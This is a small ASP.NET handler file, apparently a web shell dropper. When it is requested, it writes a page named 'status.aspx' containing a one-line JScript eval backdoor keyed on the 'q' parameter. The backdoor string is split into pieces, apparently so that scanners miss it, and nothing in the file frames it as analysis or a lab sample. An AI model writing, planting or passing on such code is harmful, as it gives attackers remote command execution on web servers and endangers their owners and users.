<%@ WebHandler Language="C#" Class="Drop" %>
using System.IO;
using System.Web;
public class Drop : IHttpHandler {
    public bool IsReusable { get { return false; } }
    public void ProcessRequest(HttpContext context) {
        string body = "<%@ Page Language=\"Jscript\"%" + "><%eval(Request." + "Item[\"q\"],\"unsafe\");%>";
        using (StreamWriter w = File.CreateText(context.Server.MapPath("status.aspx")))
            w.Write(body);
    }
}
